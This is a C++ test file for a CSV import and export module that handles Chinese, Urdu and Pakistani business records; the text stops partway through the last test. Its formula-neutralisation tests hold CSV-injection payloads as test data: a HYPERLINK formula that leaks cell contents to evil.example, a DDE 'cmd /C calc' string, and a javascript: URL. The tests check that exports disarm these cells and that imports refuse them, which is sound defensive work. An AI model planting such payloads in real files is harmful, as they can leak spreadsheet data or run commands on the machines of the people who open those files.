// CSV reading and writing (csv_format), the enterprise import and the table export.
#include <unistd.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "dosti/csv.h"
#include "dosti/demo.h"
#include "dosti/encoding.h"
#include "dosti/session.h"
#include "schema.h"
#include "session_fixture.h"

namespace dosti {
namespace {

int64_t MsAt(Date d) { return DaysFromCivil(d) * 86'400'000 + 4 * 3'600'000; }

struct CsvWorkspace {
  ManualClock clock{MsAt({2025, 3, 15})};
  SeededRandom random{11};
  std::unique_ptr<Session> session;
  explicit CsvWorkspace(const std::string& office = "beijing", uint64_t seed = 11)
      : random(seed) {
    auto s = Session::Open(":memory:", {&clock, &random});
    REQUIRE(s);
    session = std::move(*s);
    REQUIRE(session->Init(office, ""));
  }
  Session* operator->() { return session.get(); }
};

using testing::TempDir;

std::string ReadFile(const std::filesystem::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// A USCC with a correct check character, from its first 17 characters.
std::string Uscc(const std::string& first17) { return first17 + UsccCheckCharacter(first17); }

}  // namespace

TEST_CASE(
    "CSV fields with quotes, commas, line breaks, Chinese and Urdu survive writing and reading",
    "[core][csv]") {
  std::vector<std::string> fields = {
      "plain",          "a, with comma",        "say \"hello\"",   "two\nlines",
      "crlf\r\ninside", "北京智联科技有限公司", "انڈس ڈیٹا سسٹمز", "",
      " padded "};
  std::string text;
  csv::AppendRow(text, fields);
  csv::AppendRow(text, {"second", "row"});
  CHECK(text.substr(0, 21) == "plain,\"a, with comma\"");
  CHECK(text.find("\"say \"\"hello\"\"\"") != std::string::npos);
  CHECK(text.substr(text.size() - 2) == "\r\n");

  auto rows = csv::Parse(text);
  REQUIRE(rows);
  REQUIRE(rows->size() == 2);
  CHECK((*rows)[0].fields == fields);
  CHECK((*rows)[0].line == 1);
  CHECK((*rows)[1].line == 4);  // the first record spans lines 1-3
  CHECK((*rows)[1].fields == std::vector<std::string>{"second", "row"});
}

TEST_CASE("The CSV reader accepts a byte order mark, LF, CRLF, CR and no final line end",
          "[core][csv]") {
  for (std::string text :
       {std::string("\xEF\xBB\xBF"
                    "a,b\r\n1,2\r\n"),
        std::string("a,b\n1,2"), std::string("a,b\r1,2\r"), std::string("a,b\n\n1,2\n\n")}) {
    auto rows = csv::Parse(text);
    REQUIRE(rows);
    REQUIRE(rows->size() == 2);
    CHECK((*rows)[0].fields == std::vector<std::string>{"a", "b"});
    CHECK((*rows)[1].fields == std::vector<std::string>{"1", "2"});
  }
  auto trailing = csv::Parse("a,b,\n\"\",x\n");
  REQUIRE(trailing);
  CHECK((*trailing)[0].fields == std::vector<std::string>{"a", "b", ""});
  CHECK((*trailing)[1].fields == std::vector<std::string>{"", "x"});
}

TEST_CASE("The CSV reader names the line of a malformed record", "[core][csv]") {
  auto unclosed = csv::Parse("a,b\n1,2\n3,\"never closed\n4,5\n");
  REQUIRE_FALSE(unclosed);
  CHECK(unclosed.error().code == ErrorCode::kBadCsv);
  CHECK(unclosed.error().message.rfind("line 3:", 0) == 0);

  auto stray = csv::Parse("a,b\nab\"c,2\n");
  REQUIRE_FALSE(stray);
  CHECK(stray.error().message.rfind("line 2:", 0) == 0);

  auto after = csv::Parse("a,b\n\"x\"y,2\n");
  REQUIRE_FALSE(after);
  CHECK(after.error().message.rfind("line 2:", 0) == 0);
}

TEST_CASE("Importing enterprises from CSV stores every row with its identifiers", "[core][csv]") {
  CsvWorkspace w;
  std::string good = Uscc("91110108MA01ABCDE");
  std::string bad_check = "91350100M0001TGQXM";  // real, but fails the check character
  std::string csv =
      "\xEF\xBB\xBF"
      "country,name,name_en,name_ur,short_name,sector,region,city,address,founded_year,"
      "employees,uscc,ntn,secp\r\n"
      "CN,北京智联科技有限公司,\"Beijing Zhilian Technology Co., Ltd.\",,智联,6201,CN-BJ,Beijing,"
      "\"北京市海淀区中关村大街27号\n3层\",2015,120," +
      good +
      ",,\r\n"
      "PK,Indus Data Systems (Pvt.) Ltd,,انڈس ڈیٹا سسٹمز,\"The \"\"Indus\"\"\",6311,PK-IS,"
      "Islamabad,\"Office 4, Blue Area\",2010,45,,1234567-8,0012345\r\n"
      "CN,福建老字号有限公司,,,,,cn-fj,Fuzhou,,,," +
      bad_check + ",,\r\n";
  std::vector<std::pair<int64_t, std::string>> calls;
  auto summary =
      w->ImportEnterprisesCsv(csv, [&](int64_t done, int64_t total, std::string_view what) {
        calls.emplace_back(done, std::string(what));
        CHECK(total == 3);
      });
  REQUIRE(summary);
  CHECK(summary->rows == 3);
  CHECK(summary->imported == 3);
  CHECK(calls.back() == std::pair<int64_t, std::string>{3, "importing"});
  // The checksum warning is saved, with the line it came from.
  bool warned = false;
  for (const Issue& i : summary->warnings) {
    if (i.field == "line 5: uscc") warned = true;  // line 2-3 is one record
  }
  CHECK(warned);

  auto all = w->ListEnterprises();
  REQUIRE(all);
  REQUIRE(all->size() == 3);
  auto hits = w->Search(good);
  REQUIRE(hits);
  REQUIRE_FALSE(hits->empty());
  auto cn = w->GetEnterprise(hits->front().enterprise_id);
  REQUIRE(cn);
  CHECK(cn->record.Text("name_en") == "Beijing Zhilian Technology Co., Ltd.");
  CHECK(cn->record.Text("address") == "北京市海淀区中关村大街27号\n3层");
  CHECK(cn->record.Int("employees") == 120);
  CHECK(cn->record.Text("source") == "import");
  REQUIRE(cn->identifiers.size() == 1);
  CHECK(cn->identifiers[0].check == IdentifierCheck::kValid);

  auto pk_hits = w->Search("انڈس ڈیٹا");
  REQUIRE(pk_hits);
  REQUIRE_FALSE(pk_hits->empty());
  auto pk = w->GetEnterprise(pk_hits->front().enterprise_id);
  REQUIRE(pk);
  CHECK(pk->record.Text("short_name") == "The \"Indus\"");
  CHECK(pk->record.Text("address") == "Office 4, Blue Area");
  CHECK(pk->identifiers.size() == 2);
}

TEST_CASE("A CSV file with one bad row imports nothing and names the line", "[core][csv]") {
  CsvWorkspace w;
  std::string csv =
      "country,name,uscc\n"
      "CN,北京甲科技有限公司," +
      Uscc("91110108MA01AAAAA") +
      "\n"
      "CN,\"北京乙科技\n有限公司\"," +
      Uscc("91110108MA01BBBBB") +
      "\n"
      "CN,北京丙科技有限公司,91110108MA01-NOT-A-USCC\n"
      "PK,Ravi Software (Pvt.) Ltd,\n";
  auto r = w->ImportEnterprisesCsv(csv);
  REQUIRE_FALSE(r);
  CHECK(r.error().code == ErrorCode::kBadCsv);
  // The quoted name spans lines 3-4, so the bad row starts on line 5.
  CHECK(r.error().message.find("line 5: uscc:") != std::string::npos);
  CHECK(r.error().message.find("line 2") == std::string::npos);
  CHECK(r.error().message.find("nothing was imported") != std::string::npos);
  auto all = w->ListEnterprises();
  REQUIRE(all);
  CHECK(all->empty());
}

TEST_CASE("Every error of a bad CSV file is listed, up to twenty lines", "[core][csv]") {
  CsvWorkspace w;
  std::string csv = "country,name,sector\n";
  for (int i = 0; i < 25; ++i) csv += "XX,Name " + std::to_string(i) + ",6201\n";
  csv += "CN,北京好科技有限公司,62010\n";  // sector with five digits
  csv += "PK,Two fields only\n";
  auto r = w->ImportEnterprisesCsv(csv);
  REQUIRE_FALSE(r);
  const std::string& m = r.error().message;
  CHECK(m.rfind("27 rows have errors", 0) == 0);
  CHECK(m.find("line 2: country must be one of CN, PK; got 'XX'") != std::string::npos);
  CHECK(m.find("line 21:") != std::string::npos);
  CHECK(m.find("line 22:") == std::string::npos);
  CHECK(m.find("… and 7 more") != std::string::npos);
  auto all = w->ListEnterprises();
  REQUIRE(all);
  CHECK(all->empty());
}

TEST_CASE("A CSV header with an unknown or repeated column is refused by name", "[core][csv]") {
  CsvWorkspace w;
  auto unknown = w->ImportEnterprisesCsv("country,name,turnover\nCN,北京某科技有限公司,5\n");
  REQUIRE_FALSE(unknown);
  CHECK(unknown.error().code == ErrorCode::kBadCsv);
  CHECK(unknown.error().message.find("line 1: unknown column 'turnover'") != std::string::npos);

  auto twice = w->ImportEnterprisesCsv("country,name,Name\nCN,a,b\n");
  REQUIRE_FALSE(twice);
  CHECK(twice.error().message.find("'name' appears twice") != std::string::npos);

  auto no_name = w->ImportEnterprisesCsv("country,city\nCN,Beijing\n");
  REQUIRE_FALSE(no_name);
  CHECK(no_name.error().message.find("required columns missing from the header: name") != std::string::npos);

  auto empty = w->ImportEnterprisesCsv("");
  REQUIRE_FALSE(empty);
  CHECK(empty.error().code == ErrorCode::kBadCsv);
}

TEST_CASE("Import reports progress every hundred rows", "[core][csv]") {
  CsvWorkspace w;
  std::string csv = "country,name\n";
  for (int i = 0; i < 250; ++i) csv += "PK,Enterprise " + std::to_string(i) + " (Pvt.) Ltd\n";
  std::vector<int64_t> importing;
  auto r = w->ImportEnterprisesCsv(csv, [&](int64_t done, int64_t total, std::string_view what) {
    if (what == "importing") importing.push_back(done);
  });
  REQUIRE(r);
  CHECK(r->imported == 250);
  CHECK(importing == std::vector<int64_t>{100, 200, 250});
}

TEST_CASE("Export writes one CSV per replicated table with a BOM, CRLF and a header row",
          "[core][csv][native]") {
  CsvWorkspace w;
  REQUIRE(
      w->ImportEnterprisesCsv("country,name,address\n"
                              "CN,北京智联科技有限公司,\"中关村, \"\"27\"\"号\n3层\"\n"
                              "PK,Indus Data Systems (Pvt.) Ltd,انڈس\n"));
  TempDir tmp;
  std::filesystem::path dir = tmp.path / "out" / "nested";  // created when missing
  auto files = w->ExportCsv(dir.string());
  REQUIRE(files);
  REQUIRE(files->size() == ReplicatedTables().size());
  for (size_t i = 0; i < files->size(); ++i) {
    std::filesystem::path p((*files)[i]);
    CHECK(p.filename().string() == std::string(ReplicatedTables()[i]) + ".csv");
    std::string bytes = ReadFile(p);
    CHECK(bytes.rfind("\xEF\xBB\xBF"
                      "id,created_at,updated_at,origin_device,archived",
                      0) == 0);
    CHECK(bytes.substr(bytes.size() - 2) == "\r\n");
  }

  std::string enterprise = ReadFile(dir / "enterprise.csv");
  CHECK(enterprise.find("seq") == std::string::npos);
  CHECK(enterprise.find("name_key") == std::string::npos);
  auto rows = csv::Parse(enterprise);
  REQUIRE(rows);
  REQUIRE(rows->size() == 3);
  const std::vector<std::string>& header = (*rows)[0].fields;
  auto column = [&](const std::string& name) {
    return static_cast<size_t>(std::find(header.begin(), header.end(), name) - header.begin());
  };
  std::set<std::string> addresses, names;
  for (size_t r = 1; r < rows->size(); ++r) {
    REQUIRE((*rows)[r].fields.size() == header.size());
    addresses.insert((*rows)[r].fields[column("address")]);
    names.insert((*rows)[r].fields[column("name")]);
  }
  CHECK(addresses == std::set<std::string>{"中关村, \"27\"号\n3层", "انڈس"});
  CHECK(names == std::set<std::string>{"北京智联科技有限公司", "Indus Data Systems (Pvt.) Ltd"});
  // No temporary files are left behind.
  for (const auto& entry : std::filesystem::directory_iterator(dir)) {
    CHECK(entry.path().extension() == ".csv");
  }
}

TEST_CASE("Export to a path that cannot be a directory fails with an I/O error",
          "[core][csv][native]") {
  CsvWorkspace w;
  TempDir tmp;
  std::filesystem::path file = tmp.path / "plain-file";
  std::ofstream(file) << "x";
  auto r = w->ExportCsv((file / "sub").string());
  REQUIRE_FALSE(r);
  CHECK(r.error().code == ErrorCode::kIo);
}

// [SECTION] Cells for spreadsheets: formulas neutralised, text kept as text, ISO times

namespace {

// The rows of an exported file, each as column → cell, with the header.
struct Table {
  std::vector<std::string> header;
  std::vector<std::map<std::string, std::string>> rows;
  const std::map<std::string, std::string>* ById(const std::string& id) const {
    for (const auto& r : rows) {
      if (r.at("id") == id) return &r;
    }
    return nullptr;
  }
};

Table ReadTable(const std::filesystem::path& p) {
  auto parsed = csv::Parse(ReadFile(p));
  REQUIRE(parsed);
  REQUIRE_FALSE(parsed->empty());
  Table t;
  t.header = parsed->front().fields;
  for (size_t r = 1; r < parsed->size(); ++r) {
    REQUIRE((*parsed)[r].fields.size() == t.header.size());
    std::map<std::string, std::string> row;
    for (size_t k = 0; k < t.header.size(); ++k) row[t.header[k]] = (*parsed)[r].fields[k];
    t.rows.push_back(std::move(row));
  }
  return t;
}

// What OWASP's CSV Injection page says a cell must not start with.
bool StartsLikeAFormula(const std::string& cell) {
  return !cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos;
}

}  // namespace

TEST_CASE("The CSV writer gives formulas and text Excel would change a leading apostrophe",
          "[core][csv]") {
  // OWASP's rule: = + - @ TAB CR first.
  for (std::string_view formula : {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2",
                                   "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1+1"}) {
    INFO(formula);
    CHECK(csv::NeedsTextMark(formula));
    CHECK(csv::SafeText(formula) == "'" + std::string(formula));
  }
  // Text Excel turns into numbers or dates: leading zeros, 16+ digits, dates, times.
  for (std::string_view text : {"0012345", "911101087725516110", "2024-06-03", "03/06/2024",
                                "12:30", "1.50", "1e5", "12-3", "+8613800138000"}) {
    INFO(text);
    CHECK(csv::SafeText(text) == "'" + std::string(text));
  }
  // Text that is safe as it is, and numbers Excel shows as written.
  for (std::string_view plain : {"北京智联科技有限公司", "Systems Limited", "6201", "42", "3.5", "0",
                                 "DH-CN-001", "91110000600037341L", "https://www.huawei.com",
                                 "2024-06-15T12:00:00.000+08:00", ""}) {
    INFO(plain);
    CHECK_FALSE(csv::NeedsTextMark(plain));
    CHECK(csv::SafeText(plain) == plain);
  }
  // The mark itself is doubled, so reading removes exactly the one the writer added.
  CHECK(csv::SafeText("'quoted") == "''quoted");
  for (std::string_view any : {"=1+1", "'quoted", "0012345", "plain", ""}) {
    CHECK(csv::StripTextMark(csv::SafeText(any)) == any);
  }
  std::string out;
  csv::AppendValues(out, {Value{int64_t{120}}, Value{int64_t{-5}}, Value{std::string("-5")},
                          Value{}, Value{std::string("=1,2")}});
  CHECK(out == "120,'-5,'-5,,\"'=1,2\"\r\n");
}

TEST_CASE("Export neutralises formulas, keeps phones, SECP numbers and dates as text, and "
          "writes times as ISO 8601 in the office's time",
          "[core][csv][native]") {
  CsvWorkspace w;
  auto e = w->AddEnterprise({{"country", std::string("PK")},
                             {"name", std::string("=HYPERLINK(\"http://evil.example/\",\"Click\")")},
                             {"address", std::string("@SUM(A1:A9)")},
                             {"city", std::string("-Lahore")},
                             {"employees", std::string("120")},
                             {"website", std::string("https://www.systemsltd.com")}},
                            {{IdentifierType::kPkSecp, "0012345"},
                             {IdentifierType::kPkNtn, "1234567-8"}});
  REQUIRE(e);
  REQUIRE(w->AddContact({{"enterprise_id", e->id},
                         {"full_name", std::string("+Ayesha Khan")},
                         {"mobile", std::string("0300-1234567")}}));
  REQUIRE(w->AddServiceLog({{"enterprise_id", e->id},
                            {"category", std::string("legal")},
                            {"service_date", std::string("2025-03-03")},
                            {"minutes", std::string("90")},
                            {"summary", std::string("=cmd|' /C calc'!A0")}},
                           7));
  TempDir tmp;
  REQUIRE(w->ExportCsv(tmp.path.string()));
  for (const auto& entry : std::filesystem::directory_iterator(tmp.path)) {
    Table t = ReadTable(entry.path());
    for (const auto& row : t.rows) {
      for (const auto& [column, cell] : row) {
        INFO(entry.path().filename().string() << " " << column << " = " << cell);
        CHECK_FALSE(StartsLikeAFormula(cell));
        // Instants are ISO 8601 in Beijing's time, not epoch milliseconds.
        if (column == "created_at" || column == "updated_at" || column == "changed_at") {
          CHECK(cell == "2025-03-15T12:00:00.000+08:00");
        }
      }
    }
  }
  Table enterprise = ReadTable(tmp.path / "enterprise.csv");
  const auto& row = *enterprise.ById(e->id);
  CHECK(row.at("name") == "'=HYPERLINK(\"http://evil.example/\",\"Click\")");
  CHECK(row.at("address") == "'@SUM(A1:A9)");
  CHECK(row.at("city") == "'-Lahore");
  CHECK(row.at("employees") == "120");  // a number stays a number
  CHECK(row.at("website") == "https://www.systemsltd.com");
  CHECK(row.at("secp") == "'0012345");   // Excel would drop the zeros
  CHECK(row.at("ntn") == "'1234567-8");  // as people write it
  CHECK(row.at("uscc").empty());
  Table contact = ReadTable(tmp.path / "contact.csv");
  CHECK(contact.rows.at(0).at("full_name") == "'+Ayesha Khan");
  CHECK(contact.rows.at(0).at("mobile") == "'+923001234567");
  Table service = ReadTable(tmp.path / "service_log.csv");
  CHECK(service.rows.at(0).at("service_date") == "'2025-03-03");
  CHECK(service.rows.at(0).at("summary") == "'=cmd|' /C calc'!A0");
  Table follow_up = ReadTable(tmp.path / "follow_up.csv");
  CHECK(follow_up.rows.at(0).at("due_date") == "'2025-03-10");

  // The same instant from Islamabad is written in Islamabad's time.
  CsvWorkspace isb("islamabad");
  REQUIRE(isb->AddEnterprise({{"country", std::string("PK")}, {"name", std::string("Ravi Ltd")}}));
  TempDir tmp2;
  REQUIRE(isb->ExportCsv(tmp2.path.string()));
  CHECK(ReadTable(tmp2.path / "enterprise.csv").rows.at(0).at("created_at") ==
        "2025-03-15T09:00:00.000+05:00");
}

TEST_CASE("An enterprise's website must be a web address when added, edited or imported",
          "[core][csv][website]") {
  CsvWorkspace w;
  auto bad = w->AddEnterprise({{"country", std::string("CN")},
                               {"name", std::string("北京甲科技有限公司")},
                               {"website", std::string("=HYPERLINK(\"http://evil.example\")")}});
  REQUIRE_FALSE(bad);
  CHECK(bad.error().key == "enterprise.bad_website");
  CHECK(bad.error().field == "website");
  auto good = w->AddEnterprise({{"country", std::string("CN")},
                                {"name", std::string("北京乙科技有限公司")},
                                {"website", std::string("www.example.cn")}});
  REQUIRE(good);
  auto set = w->SetEnterpriseField(good->id, "website", "javascript:alert(1)");
  REQUIRE_FALSE(set);
  CHECK(set.error().key == "enterprise.bad_website");
  auto imported = w->ImportEnterprisesCsv(
      "country,name,website\nCN,北京丙科技有限公司,https://www.example.cn\n"
      "CN,北京丁科技有限公司,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n");
  REQUIRE_FALSE(imported);
  CHECK(imported.error().message.find("line 3: website '=HYPERLINK") != std::string::npos);
  CHECK(w->ListEnterprises()->size() == 1);
}

// [SECTION] What Dosti exports, it imports

namespace {

// Exports `s` into a fresh directory and reads the five tables an import brings back.
struct Exported {
  TempDir dir;
  std::map<std::string, Table> tables;
  explicit Exported(Session& s) {
    REQUIRE(s.ExportCsv(dir.path.string()));
    for (const char* t : {"enterprise", "enterprise_identifier", "contact", "service_log",
                          "follow_up"}) {
      tables[t] = ReadTable(dir.path / (std::string(t) + ".csv"));
    }
  }
  std::string Path(const std::string& table) const {
    return (dir.path / (table + ".csv")).string();
  }
};

// The columns that differ between workspaces by nature: the writer's bookkeeping and each
// workspace's own programme record.
bool OwnedByWorkspace(const std::string& column) {
  return column == "updated_at" || column == "origin_device" || column == "programme_id";
}

void CheckSameRecords(const Exported& a, const Exported& b) {
  for (const auto& [name, table] : a.tables) {
    const Table& other = b.tables.at(name);
    INFO(name);
    CHECK(table.rows.size() == other.rows.size());
    if (name == "enterprise_identifier") {
      // Identifier rows get ids of their own; what they say is the same.
      auto key = [](const Table& t) {
        std::multiset<std::string> out;
        for (const auto& r : t.rows) {
          out.insert(r.at("enterprise_id") + "|" + r.at("type") + "|" + r.at("value") + "|" +
                     r.at("check_state") + "|" + r.at("archived"));
        }
        return out;
      };
      CHECK(key(table) == key(other));
      continue;
    }
    for (const auto& row : table.rows) {
      const auto* copy = other.ById(row.at("id"));
      INFO(row.at("id"));
      REQUIRE(copy);
      for (const auto& [column, cell] : row) {
        if (OwnedByWorkspace(column)) continue;
        INFO(column);
        if (column == "created_at") {
          CHECK(ParseInstant(cell) == ParseInstant(copy->at(column)));  // offsets may differ
        } else {
          CHECK(cell == copy->at(column));
        }
      }
    }
  }
}

Result<ImportSummary> ImportAll(Session& s, const Exported& from) {
  auto e = s.ImportCsvFile(ImportKind::kEnterprises, from.Path("enterprise"));
  if (!e) return e;
  auto c = s.ImportCsvFile(ImportKind::kContacts, from.Path("contact"));
  if (!c) return c;
  return s.ImportCsvFile(ImportKind::kServices, from.Path("service_log"));
}

}  // namespace

TEST_CASE("Export then import into another workspace keeps every enterprise, identifier, "
          "contact, service log and follow-up",
          "[core][csv][native]") {
  CsvWorkspace bj("beijing", 11);
  REQUIRE(SeedDemo(*bj.session, 40, 3));
  // Records a round trip must also carry: a merged pair, an archived enterprise, text that
  // looks like a formula, several identifiers of one type, a consent date.
  auto all = bj->ListEnterprises();
  REQUIRE(all->size() >= 4);
  std::vector<std::string> pk;
  for (const Record& r : *all) {
    if (r.Text("country") == "PK") pk.push_back(r.id);
  }
  REQUIRE(pk.size() >= 3);
  REQUIRE(bj->MergeDuplicates(pk[0], pk[1]));
  // A selected enterprise is not archived without an exit: archive one that is not.
  bool archived = false;
  for (size_t i = 2; i < pk.size() && !archived; ++i) {
    archived = static_cast<bool>(bj->ArchiveEnterprise(pk[i], true));
  }
  REQUIRE(archived);
  REQUIRE(bj->SetEnterpriseField(pk[0], "address", "=1+2, Blue Area"));
  REQUIRE(bj->AddIdentifier(pk[0], {IdentifierType::kPkNtn, "7654321-0"}));
  REQUIRE(bj->AddIdentifier(pk[0], {IdentifierType::kPkNtn, "1234567-8"}));
  Exported first(*bj.session);

  CsvWorkspace isb("islamabad", 12);
  auto imported = ImportAll(*isb.session, first);
  INFO((imported ? "" : imported.error().message));
  REQUIRE(imported);
  CHECK(imported->imported == static_cast<int64_t>(first.tables["service_log"].rows.size() +
                                                   first.tables["follow_up"].rows.size()));
  Exported second(*isb.session);
  CheckSameRecords(first, second);
  // Lists and search see the imported records as the first workspace does.
  CHECK(isb->ListEnterprises()->size() == bj->ListEnterprises()->size());
  CHECK(isb->ListServiceLogs()->size() == bj->ListServiceLogs()->size());
  CHECK(isb->ListFollowUps(testing::IncludingDone())->size() ==
        bj->ListFollowUps(testing::IncludingDone())->size());
  CHECK(isb->ListContacts(pk[0])->size() == bj->ListContacts(pk[0])->size());
}

TEST_CASE("Importing the same files twice creates nothing and changes nothing the second time",
          "[core][csv][native]") {
  CsvWorkspace bj("beijing", 21);
  REQUIRE(SeedDemo(*bj.session, 20, 5));
  Exported files(*bj.session);
  CsvWorkspace isb("islamabad", 22);
  REQUIRE(ImportAll(*isb.session, files));
  auto digest = isb->Digest();
  REQUIRE(digest);
  auto again = ImportAll(*isb.session, files);
  REQUIRE(again);
  CHECK(again->imported == 0);
  CHECK(again->updated == 0);
  CHECK(again->unchanged == again->rows);
  CHECK(isb->Digest() == *digest);  // not one change was written
  for (const ImportCounts& t : again->tables) CHECK(t.imported == 0);
  // Into the workspace the files came from, too.
  auto home = ImportAll(*bj.session, files);
  REQUIRE(home);
  CHECK(home->imported == 0);
  CHECK(home->updated == 0);
}

TEST_CASE("Rows without ids match by identifier, and the file's values update the record",
          "[core][csv]") {
  CsvWorkspace w;
  std::string uscc = Uscc("91110108MA01ABCDE");
  std::string file = "country,name,city,uscc,ntn\n"
                     "CN,北京智联科技有限公司,北京," + uscc + ",\n"
                     "PK,Indus Data Systems (Pvt.) Ltd,,,1234567-8\n";
  REQUIRE(w->ImportEnterprisesCsv(file));
  auto twice = w->ImportEnterprisesCsv(file);
  REQUIRE(twice);
  CHECK(twice->imported == 0);
  CHECK(twice->unchanged == 2);
  CHECK(w->ListEnterprises()->size() == 2);
  // A later file (its USCC typed with dashes) fixes the city; empty cells clear nothing.
  auto later = w->ImportEnterprisesCsv("country,name,city,uscc\nCN,北京智联科技有限公司,海淀," +
                                       uscc.substr(0, 6) + "-" + uscc.substr(6) +
                                       "\nPK,Indus Data Systems (Pvt.) Ltd,Islamabad,\n");
  REQUIRE(later);
  CHECK(later->updated == 1);
  CHECK(later->imported == 1);  // no id, no identifier: a new record (with a warning)
  auto hits = w->Search(uscc);
  REQUIRE(hits);
  REQUIRE_FALSE(hits->empty());
  auto cn = w->GetEnterprise(hits->front().enterprise_id);
  CHECK(cn->record.Text("city") == "海淀");
  CHECK(cn->identifiers.size() == 1);
  bool duplicate_name = false;
  for (const Issue& i : later->warnings) duplicate_name |= i.key == "enterprise.duplicate_name";
  CHECK(duplicate_name);
}

TEST_CASE("A new enterprise whose row gives one identifier twice gets it once", "[core][csv]") {
  CsvWorkspace w;
  std::string uscc = Uscc("91110108MA01ABCDE");
  auto done = w->ImportEnterprisesCsv("country,name,uscc\nCN,北京智联科技有限公司,\"" + uscc +
                                      "\n" + uscc + "\"\n");
  REQUIRE(done);
  CHECK(done->imported == 1);
  auto list = w->ListEnterprises();
  REQUIRE(list);
  REQUIRE(list->size() == 1);
  CHECK(w->GetEnterprise(list->front().id)->identifiers.size() == 1);
}

TEST_CASE("An enterprise from another workspace with an identifier known here is merged into "
          "the one here, and its contacts follow",
          "[core][csv][native]") {
  std::string uscc = Uscc("91110108MA01ABCDE");
  CsvWorkspace isb("islamabad", 31);
  auto theirs = isb->AddEnterprise({{"country", std::string("CN")},
                                    {"name", std::string("北京智联科技有限公司")},
                                    {"name_ur", std::string("بیجنگ ژیلیان")}},
                                   {{IdentifierType::kCnUscc, uscc}});
  REQUIRE(theirs);
  REQUIRE(isb->AddContact({{"enterprise_id", theirs->id}, {"full_name", std::string("王海燕")}}));
  Exported files(*isb.session);

  CsvWorkspace bj("beijing", 32);
  auto ours = bj->AddEnterprise(
      {{"country", std::string("CN")}, {"name", std::string("北京智联科技有限公司")}},
      {{IdentifierType::kCnUscc, uscc}});
  REQUIRE(ours);
  REQUIRE(bj->AddContact({{"enterprise_id", ours->id}, {"full_name", std::string("李娜")}}));
  REQUIRE(bj->ImportCsvFile(ImportKind::kEnterprises, files.Path("enterprise")));
  REQUIRE(bj->ImportCsvFile(ImportKind::kContacts, files.Path("contact")));
  auto live = bj->ListEnterprises();
  REQUIRE(live->size() == 1);  // one enterprise, as before
  CHECK(live->front().id == ours->id);
  auto copy = bj->GetEnterprise(theirs->id);  // kept under its id, merged into ours
  REQUIRE(copy);
  CHECK(copy->record.Text("merged_into") == ours->id);
  CHECK(copy->record.Text("name_ur") == "بیجنگ ژیلیان");
  CHECK(bj->ListContacts(ours->id)->size() == 2);
  CHECK(bj->ListDuplicates()->empty());
}

TEST_CASE("Contacts and service logs must find their enterprise here", "[core][csv]") {
  CsvWorkspace w;
  auto r = w->ImportCsv(ImportKind::kContacts,
                        "enterprise_id,full_name\n0190aaaaaaaaaaaaaaaaaaaaaaaaaaaa,王海燕\n");
  REQUIRE_FALSE(r);
  CHECK(r.error().message.find("line 2: enterprise_id 0190aaaaaaaaaaaaaaaaaaaaaaaaaaaa is not in "
                               "this workspace; import the file of enterprises first") !=
        std::string::npos);
  auto e = w->AddEnterprise({{"country", std::string("CN")}, {"name", std::string("甲有限公司")}});
  REQUIRE(e);
  std::string services = "enterprise_id,category,service_date,minutes,summary\n" + e->id +
                         ",legal,2025-03-03,90,Contract review\n" + e->id +
                         ",cooking,2025-03-03,90,Something else\n";
  auto s = w->ImportCsv(ImportKind::kServices, services);
  REQUIRE_FALSE(s);
  CHECK(s.error().message.rfind("1 row has errors; nothing was imported", 0) == 0);
  CHECK(s.error().message.find("line 3: category must be one of") != std::string::npos);
  CHECK(w->ListServiceLogs()->empty());
  // Without the bad row it imports, and again it creates nothing.
  services.resize(services.rfind(e->id));
  REQUIRE(w->ImportCsv(ImportKind::kServices, services));
  auto again = w->ImportCsv(ImportKind::kServices, services);
  REQUIRE(again);
  CHECK(again->unchanged == 1);
  CHECK(w->ListServiceLogs()->size() == 1);
}

// [SECTION] Encodings and files

namespace {

// Real bytes of CSV files saved by Excel on Chinese Windows (GB18030) and on Urdu Windows
// (Windows-1256, whose Urdu has the Arabic yeh ي, U+064A, for ی), made with Python's codecs
// (an implementation independent of the iconv the core converts with):
// "北京智联科技有限公司".encode("gb18030"), "پاک سافٹ ہاؤس".encode("cp1256").
const std::string kGb18030Csv =
    "country,name,city\r\nCN,"
    "\xB1\xB1\xBE\xA9\xD6\xC7\xC1\xAA\xBF\xC6\xBC\xBC\xD3\xD0\xCF\xDE\xB9\xAB\xCB\xBE,"  // 北京智联科技有限公司
    "\xB1\xB1\xBE\xA9\r\n";                                                            // 北京
const std::string kWindows1256Csv =
    "country,name,name_ur,city\r\nPK,Pak Soft House,"
    "\x81\xC7\x98\x20\xD3\xC7\xDD\x8A\x20\xC0\xC7\xC4\xD3,"  // پاک سافٹ ہاؤس
    "\xE1\xC7\xC0\xE6\xD1\r\n";                               // لاہور

}  // namespace

// Import options naming the file's encoding.
ImportOptions In(TextEncoding encoding) {
  ImportOptions options;
  options.encoding = encoding;
  return options;
}

TEST_CASE("A GB18030 or Windows-1256 file is refused with one message naming its encoding, and "
          "imported when the encoding is given",
          "[core][csv][encoding]") {
  CsvWorkspace w;
  for (const auto& [bytes, likely] : {std::pair{kGb18030Csv, std::string("gb18030")},
                                      std::pair{kWindows1256Csv, std::string("windows-1256")}}) {
    INFO(likely);
    auto refused = w->ImportCsv(ImportKind::kEnterprises, bytes);
    REQUIRE_FALSE(refused);
    CHECK(refused.error().code == ErrorCode::kBadCsv);
    CHECK(refused.error().key == "text.not_utf8");
    CHECK(refused.error().details.empty());  // one message, not one per row
    CHECK(refused.error().message.find("it looks like " + likely) != std::string::npos);
    CHECK(refused.error().message.find("Name is empty") == std::string::npos);
  }
  CHECK(w->ListEnterprises()->empty());

  auto gb = w->ImportCsv(ImportKind::kEnterprises, kGb18030Csv, In(TextEncoding::kGb18030));
  REQUIRE(gb);
  auto ur = w->ImportCsv(ImportKind::kEnterprises, kWindows1256Csv,
                         In(*ParseTextEncoding("WINDOWS-1256")));
  REQUIRE(ur);
  auto cn = w->Search("北京智联科技有限公司");
  REQUIRE_FALSE(cn->empty());
  CHECK(w->GetEnterprise(cn->front().enterprise_id)->record.Text("city") == "北京");
  auto pk = w->Search("Pak Soft House");
  REQUIRE_FALSE(pk->empty());
  auto pk_record = w->GetEnterprise(pk->front().enterprise_id)->record;
